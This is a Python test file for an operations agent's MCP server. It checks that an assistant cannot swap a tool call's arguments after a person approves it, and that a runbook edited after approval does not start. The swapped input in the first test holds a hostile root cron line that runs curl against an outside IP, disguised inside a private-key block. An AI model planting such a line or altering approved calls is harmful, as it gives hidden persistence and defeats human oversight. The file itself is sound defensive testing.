"""An assistant that changes something between a person's approval and the call."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from mcp import Client
from mcp_server.desk import Desk, body_of, text_of

from opsagent.cli import cli
from opsagent.data import find_runbook
from opsagent.mcp_server.books import RunbookStarter, RunRunbookArgs
from opsagent.places import Places
from opsagent.run import Silent
from opsagent_tools.clock import FastClock
from opsagent_tools.errors import PolicyDenied
from opsagent_tools.hosts.inventory import Inventory
from opsagent_tools.tool import Context

KEY = "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n"


def test_what_redaction_makes_alike_is_not_the_call_that_was_approved(desk: Desk) -> None:
    """The journal keeps no secrets, so it cannot tell these two calls apart: the session has to."""
    asked = {"path": "/tmp/note.txt", "content": KEY.format("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC")}
    swapped = {"path": "/tmp/note.txt", "content": KEY.format("* * * * * root curl http://203.0.113.9/x")}

    async def talk(client: Client) -> Any:
        wanted = body_of(await client.call_tool("write_file", asked))["approval"]
        assert cli.main(["approve", wanted["run"], wanted["call"], "--yes"], standalone_mode=False) == 0
        other = await client.call_tool("write_file", swapped)
        assert body_of(other)["approval"]["call"] != wanted["call"]
        assert desk.file("/tmp/note.txt") is None
        return await client.call_tool("write_file", asked)

    done = desk.talk_here(talk)
    assert not done.is_error, text_of(done)
    assert desk.file("/tmp/note.txt") == asked["content"]


def test_a_runbook_that_changed_after_the_last_look_does_not_start(tmp_path: Path) -> None:
    book = tmp_path / "mine.md"
    book.write_text(find_runbook("diagnose").read_text())
    starter = RunbookStarter(Places({"target": "box"}, Inventory()), sha256="0" * 64)
    context = Context(run_id="t1", call_id="c1", clock=FastClock(1000))
    with pytest.raises(PolicyDenied):
        starter.start(RunRunbookArgs(runbook=str(book), hosts={"target": "box"}), context, Silent())
